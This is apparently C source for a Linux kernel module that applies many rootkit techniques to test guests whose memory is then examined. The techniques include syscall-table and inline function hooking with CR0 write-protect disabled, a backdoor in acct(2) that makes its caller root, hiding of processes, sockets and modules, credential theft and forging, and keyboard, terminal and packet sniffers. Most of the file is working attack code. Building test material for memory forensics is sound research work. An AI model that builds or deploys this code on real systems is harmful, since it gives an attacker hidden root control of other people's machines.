/*
 * Attacks on a running kernel, each as public write-ups describe it, for guests whose memory is then examined.
 *
 *     insmod MODULE.ko attacks=ATTACK,ATTACK ...
 *
 * samples/kernel_module.py compiles it for one kernel without that kernel's headers: AT, SIZE, COUNT and HAS are
 * what the kernel's own type information says of a structure and its field. Functions of the kernel are found by name, as
 * rootkits do since 5.7: a kprobe leads to kallsyms_lookup_name. What was done is in the kernel's log.
 */
typedef unsigned long ulong;
typedef unsigned int uint;

#define FIELD(type, base, offset) (*(type *)((char *)(base) + (offset)))
#define CALL(type, name) ((type)find(name))
#define ALIGNED __attribute__((aligned(64)))
#define FAILED(pointer) ((ulong)(pointer) > -4096UL)
#define GETDENTS64 217
#define PF_KTHREAD 0x200000
#define ETH_P_ALL 0x0300 /* in the network's byte order */

extern int register_kprobe(void *probe);
extern void unregister_kprobe(void *probe);

struct list {
	struct list *next, *prev;
};

static ulong (*lookup)(const char *name);
static char probe[SIZE(kprobe)] ALIGNED, finder[SIZE(kprobe)] ALIGNED;

static ulong find(const char *name)
{
	return lookup(name);
}

static void copy(char *to, const char *from, ulong size)
{
	while (size--)
		*to++ = *from++;
}

static void forget(struct list *node)
{
	node->prev->next = node->next;
	node->next->prev = node->prev;
	node->next = node->prev = node;
}

/* Write a word that is mapped read-only: without the write-protect bit of CR0. */
static void poke(void *place, ulong value)
{
	ulong cr0;

	asm volatile("cli; mov %%cr0, %0" : "=r"(cr0));
	asm volatile("mov %0, %%cr0" : : "r"(cr0 & ~0x10000UL));
	*(volatile ulong *)place = value;
	asm volatile("mov %0, %%cr0; sti" : : "r"(cr0));
}

static void *opened(const char *path)
{
	void *file = CALL(void *(*)(const char *, int, int), "filp_open")(path, 0, 0);

	return FAILED(file) ? 0 : file;
}

static int same(const char *one, const char *other)
{
	while (*one && *one == *other)
		one++, other++;
	return *one == *other;
}

/* The process whose name is this one. */
static char *process(const char *name)
{
	char *first = (char *)find("init_task"), *task = first;

	do {
		task = FIELD(char *, task, AT(task_struct, tasks)) - AT(task_struct, tasks);
		if (same(task + AT(task_struct, comm), name))
			return task;
	} while (task != first);
	return 0;
}

/* --- functions that are put in the place of the kernel's ------------------------------------------------------- */

static ulong hits;
static long (*getdents64)(void *registers);
static int (*iterate)(void *file, void *context);
static int (*show)(void *file, void *entry);

static long on_getdents64(void *registers)
{
	hits++;
	return getdents64(registers);
}

/* The door: acct(2) makes its caller root. */
static long on_acct(void *registers)
{
	void *cred = CALL(void *(*)(void *), "prepare_kernel_cred")((void *)find("init_task"));

	return CALL(int (*)(void *), "commit_creds")(cred);
}

static void on_traced(ulong ip, ulong parent_ip, void *ops, void *registers)
{
	hits++;
}

static int on_probe(void *of, void *registers)
{
	hits++;
	return 0;
}

static int on_iterate(void *file, void *context)
{
	hits++;
	return iterate(file, context);
}

static int on_show(void *file, void *entry)
{
	hits++;
	return show(file, entry);
}

static uint on_packet(void *priv, void *buffer, void *state)
{
	hits++;
	return 1; /* NF_ACCEPT */
}

static int on_received(void *buffer, void *device, void *type, void *from)
{
	hits++;
	CALL(void (*)(void *), "consume_skb")(buffer);
	return 0;
}

static int on_notice(void *block, ulong action, void *data)
{
	hits++;
	return 0; /* NOTIFY_DONE */
}

static ulong (*receive)(void *tty, void *text, void *flags, ulong count);

static ulong on_typed(void *tty, void *text, void *flags, ulong count)
{
	hits++;
	return receive(tty, text, flags, count);
}

static void on_time(void *timer)
{
	hits++;
}

/* --- attacks: 0 if done --------------------------------------------------------------------------------------------- */

static int replace_syscall(void)
{
	ulong *table = (ulong *)find("sys_call_table");

	if (!table)
		return -2;
	getdents64 = (void *)table[GETDENTS64];
	poke(&table[GETDENTS64], (ulong)on_getdents64);
	return 0;
}

/* movabs rax, on_acct; jmp rax */
static int patch_function(void)
{
	union {
		unsigned char code[16];
		ulong words[2];
	} jump;
	char *function = (char *)find("__x64_sys_acct");
	ulong target = (ulong)on_acct;

	if (!function)
		return -2;
	copy((char *)jump.code, function, 16);
	jump.code[0] = 0x48;
	jump.code[1] = 0xb8;
	copy((char *)jump.code + 2, (char *)&target, 8);
	jump.code[10] = 0xff;
	jump.code[11] = 0xe0;
	poke(function + 8, jump.words[1]);
	poke(function, jump.words[0]);
	return 0;
}

static char ops[SIZE(ftrace_ops)] ALIGNED;

/* Trace mkdir(2), and take the ftrace_ops off the list. */
static int trace_function(void)
{
	ulong function = find("__x64_sys_mkdir");
	void **list = (void **)find("ftrace_ops_list");
	int error;

	FIELD(void *, ops, AT(ftrace_ops, func)) = on_traced;
	error = CALL(int (*)(void *, ulong, int, int), "ftrace_set_filter_ip")(ops, function, 0, 0);
	if (!error)
		error = CALL(int (*)(void *), "register_ftrace_function")(ops);
	if (!error && *list == (void *)ops)
		*list = FIELD(void *, ops, AT(ftrace_ops, next));
	return error;
}

static int probe_function(void)
{
	FIELD(const char *, probe, AT(kprobe, symbol_name)) = "do_init_module";
	FIELD(void *, probe, AT(kprobe, pre_handler)) = on_probe;
	return register_kprobe(probe);
}

/* The constant operations of the root of /proc. */
static int patch_operations(void)
{
	char *operations = (char *)find("proc_root_operations");

	if (!operations)
		return -2;
	iterate = FIELD(void *, operations, AT(file_operations, iterate_shared));
	poke(operations + AT(file_operations, iterate_shared), (ulong)on_iterate);
	return 0;
}

static char own_files[SIZE(file_operations)] ALIGNED, own_list[SIZE(seq_operations)] ALIGNED;
static char own_line[SIZE(tty_ldisc_ops)] ALIGNED;

/* A copy of the operations of one directory. */
static int replace_operations(void)
{
	char *file = opened("/srv"), *inode;

	if (!file)
		return -2;
	inode = FIELD(char *, file, AT(file, f_inode));
	copy(own_files, FIELD(char *, inode, AT(inode, i_fop)), sizeof own_files);
	if (!iterate)
		iterate = FIELD(void *, own_files, AT(file_operations, iterate_shared));
	FIELD(void *, own_files, AT(file_operations, iterate_shared)) = on_iterate;
	FIELD(void *, inode, AT(inode, i_fop)) = own_files;
	return 0;
}

/* The constant operations of /proc/net/tcp. */
static int patch_tcp(void)
{
	char *operations = (char *)find("tcp4_seq_ops");

	if (!operations)
		return -2;
	show = FIELD(void *, operations, AT(seq_operations, show));
	poke(operations + AT(seq_operations, show), (ulong)on_show);
	return 0;
}

/* A copy of the operations of /proc/net/udp, in its entry of /proc. */
static int replace_udp(void)
{
	char *file = opened("/proc/net/udp"), *entry;

	if (!file)
		return -2;
	entry = FIELD(char *, file, AT(file, f_inode)) - AT(proc_inode, vfs_inode);
	entry = FIELD(char *, entry, AT(proc_inode, pde));
	copy(own_list, FIELD(char *, entry, AT(proc_dir_entry, seq_ops)), sizeof own_list);
	if (!show)
		show = FIELD(void *, own_list, AT(seq_operations, show));
	FIELD(void *, own_list, AT(seq_operations, show)) = on_show;
	FIELD(void *, entry, AT(proc_dir_entry, seq_ops)) = own_list;
	return 0;
}

static char hook[SIZE(nf_hook_ops)] ALIGNED, sniffer[SIZE(packet_type)] ALIGNED;
static char keys[SIZE(notifier_block)] ALIGNED, timer[SIZE(timer_list)] ALIGNED;

static int hook_packets(void)
{
	FIELD(void *, hook, AT(nf_hook_ops, hook)) = on_packet;
	FIELD(unsigned char, hook, AT(nf_hook_ops, pf)) = 2; /* NFPROTO_IPV4 */
	FIELD(int, hook, AT(nf_hook_ops, priority)) = -1000;
	return CALL(int (*)(ulong, void *), "nf_register_net_hook")(find("init_net"), hook);
}

static int sniff_packets(void)
{
	FIELD(unsigned short, sniffer, AT(packet_type, type)) = ETH_P_ALL;
	FIELD(void *, sniffer, AT(packet_type, func)) = on_received;
#if HAS(packet_type, af_packet_net)
	FIELD(ulong, sniffer, AT(packet_type, af_packet_net)) = find("init_net");
#endif
	CALL(void (*)(void *), "dev_add_pack")(sniffer);
	return 0;
}

static int log_keys(void)
{
	if (!find("register_keyboard_notifier"))
		return -2;
	FIELD(void *, keys, AT(notifier_block, notifier_call)) = on_notice;
	return CALL(int (*)(void *), "register_keyboard_notifier")(keys);
}

/* A copy of the line discipline's operations, for one terminal. */
static int sniff_terminal(void)
{
	char *file = opened("/dev/ttyS0"), *tty, *used;

	if (!file)
		return -2;
	tty = FIELD(char *, FIELD(void *, file, AT(file, private_data)), AT(tty_file_private, tty));
	used = FIELD(char *, tty, AT(tty_struct, ldisc));
	copy(own_line, FIELD(char *, used, AT(tty_ldisc, ops)), sizeof own_line);
	receive = FIELD(void *, own_line, AT(tty_ldisc_ops, receive_buf2));
	FIELD(void *, own_line, AT(tty_ldisc_ops, receive_buf2)) = on_typed;
	FIELD(void *, used, AT(tty_ldisc, ops)) = own_line;
	return 0;
}

static int arm_timer(void)
{
	FIELD(void *, timer, AT(timer_list, function)) = on_time;
	return CALL(int (*)(void *, ulong), "mod_timer")(timer, *(ulong *)find("jiffies") + 250 * 100000);
}

/* Off the list of processes. */
static int hide_process(void)
{
	char *task = process("v_hidden");

	if (!task)
		return -3;
	forget((struct list *)(task + AT(task_struct, tasks)));
	return 0;
}

/* Out of the table of listening sockets: the socket is descriptor 3 of the process. */
static int hide_socket(void)
{
	char *task = process("v_listens"), *files, *file, *socket, *protocol;

	if (!task)
		return -3;
	files = FIELD(char *, FIELD(void *, task, AT(task_struct, files)), AT(files_struct, fdt));
	file = FIELD(char **, files, AT(fdtable, fd))[3];
	socket = FIELD(char *, FIELD(void *, file, AT(file, private_data)), AT(socket, sk));
	protocol = FIELD(char *, socket, AT(sock, __sk_common.skc_prot));
	((void (*)(void *))FIELD(void *, protocol, AT(proto, unhash)))(socket);
	return 0;
}

static int pose_as_thread(void)
{
	char *task = process("v_thread");

	if (!task)
		return -3;
	FIELD(uint, task, AT(task_struct, flags)) |= PF_KTHREAD;
	copy(task + AT(task_struct, comm), "kworker/0:7", 12);
	return 0;
}

/* The credentials of the first process. */
static int steal_credentials(void)
{
	char *task = process("v_steals"), *first = process("init");

	if (!task || !first)
		return -3;
	FIELD(ulong, task, AT(task_struct, cred)) = FIELD(ulong, first, AT(task_struct, cred));
	FIELD(ulong, task, AT(task_struct, real_cred)) = FIELD(ulong, first, AT(task_struct, cred));
	return 0;
}

/* User and group ids 0 in a process's own credentials: uid, gid, suid, sgid, euid, egid, fsuid, fsgid. */
static int forge_root(void)
{
	char *task = process("v_forges");
	uint *ids, number;

	if (!task)
		return -3;
	ids = (uint *)(FIELD(char *, task, AT(task_struct, cred)) + AT(cred, uid));
	for (number = 0; number < 8; number++)
		ids[number] = 0;
	return 0;
}

/* Another module off each list that names it. */
static int hide_module(void)
{
	struct list *head = (struct list *)find("modules"), *node;
	char *module;

	for (node = head->next; node != head; node = node->next) {
		module = (char *)node - AT(module, list);
		if (!same(module + AT(module, name), "ghost"))
			continue;
		if (find("mod_tree_remove"))
			CALL(void (*)(void *), "mod_tree_remove")(module);
		CALL(void (*)(void *), "kobject_del")(module + AT(module, mkobj.kobj));
		forget(node);
		return 0;
	}
	return -3;
}

#include "rootkit_handlers.h"
#include "rootkit_settings.h"
#include "rootkit_objects.h"

/* --- the module ------------------------------------------------------------------------------------------------------ */

static const struct {
	const char *name;
	int (*attack)(void);
} attacks[] = {
	{ "syscall", replace_syscall }, { "inline", patch_function }, { "ftrace", trace_function },
	{ "kprobe", probe_function }, { "vfs", patch_operations }, { "directory", replace_operations },
	{ "tcp", patch_tcp }, { "udp", replace_udp }, { "netfilter", hook_packets }, { "sniffer", sniff_packets },
	{ "keyboard", log_keys }, { "tty", sniff_terminal }, { "timer", arm_timer }, { "process", hide_process },
	{ "socket", hide_socket }, { "thread", pose_as_thread }, { "credentials", steal_credentials },
	{ "root", forge_root }, { "module", hide_module },
	{ "security", add_security_hook }, { "tracepoint", probe_tracepoint }, { "uprobe", probe_program },
	{ "work", keep_working }, { "delayed", delay_work }, { "interrupt", share_interrupt },
	{ "kthread", start_thread }, { "format", register_format }, { "device", replace_device },
	{ "sysfs", replace_attribute },
	{ "lines", replace_lines }, { "name", replace_name }, { "mapping", replace_mapping }, { "class", replace_class },
	{ "taskwork", add_task_work }, { "endpoint", listen_in_kernel }, { "tunnel", encapsulate },
	{ "ethtool", replace_ethtool }, { "family", register_family }, { "receiver", replace_receiver },
	{ "options", register_options }, { "esp", register_esp }, { "congestion", register_control },
	{ "queue", register_queue }, { "namespaces", register_namespaces }, { "tasklet", schedule_tasklet },
	{ "dumper", register_dumper }, { "input", register_handler }, { "cipher", register_cipher },
	{ "keytype", register_key_type }, { "setting", register_setting }, { "debugfs", register_debug_file },
	{ "driver", register_driver }, { "clock", register_clock }, { "power", set_power_off },
	{ "vmalloc", run_vmalloc }, { "orphan", keep_code }, { "page", run_page }, { "wiped", wipe_module },
	{ "unnamed", empty_name }, { "reboot", register_reboot },
	{ "modprobe", set_modprobe }, { "core", set_core_pattern }, { "poweroff", set_poweroff },
};

int init_module(void)
{
	/* the kernel has put a zero in the place of the sign of equality */
	char *word = FIELD(char *, THIS_MODULE, AT(module, args)) + sizeof "attacks", *end;
	void (*print)(const char *, ...);
	int error, number, last;

	FIELD(const char *, finder, AT(kprobe, symbol_name)) = "kallsyms_lookup_name";
	error = register_kprobe(finder);
	if (error)
		return error;
	lookup = FIELD(void *, finder, AT(kprobe, addr));
	unregister_kprobe(finder);
	print = (void *)(find("_printk") ? find("_printk") : find("printk"));
	do {
		for (end = word; *end && *end != ','; end++)
			;
		last = !*end;
		*end = 0;
		for (number = 0; number < sizeof attacks / sizeof *attacks; number++)
			if (same(attacks[number].name, word)) {
				error = attacks[number].attack();
				print("rootkit: %s %d\n", word, error);
			}
		word = end + 1;
	} while (!last);
	return 0;
}
